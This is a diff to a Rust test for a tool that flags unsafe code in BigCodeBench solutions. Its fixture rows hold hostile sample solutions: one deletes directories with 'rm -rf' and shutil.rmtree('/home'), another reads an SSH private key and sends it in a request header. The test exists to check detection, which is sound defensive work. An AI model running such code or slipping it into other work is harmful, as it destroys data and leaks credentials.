@@ -23,7 +23,7 @@ fn safety_report_lists_findings_and_counts_per_rule() {
     let rows = [
         json!({"task_id": "BigCodeBench/0", "solution": "def task_func():\n    return 1\n"}),
         json!({"task_id": "BigCodeBench/0", "solution": "import os, shutil\ndef task_func():\n    os.system('rm -rf x')\n    shutil.rmtree('/home')\n"}),
-        json!({"task_id": "BigCodeBench/1", "solution": "import requests\ndef task_func(u):\n    return requests.get(u, headers={'k': open('/root/.ssh/id_rsa').read()})\n"}),
+        json!({"task_id": "BigCodeBench/1", "solution": "import requests\ndef task_func(u):\n    return requests.get(u, headers={'k': open('~/.ssh/id_rsa').read()})\n"}),
     ];
     let text: String = rows.iter().map(|r| format!("{r}\n")).collect();
     std::fs::write(&samples, text).unwrap();
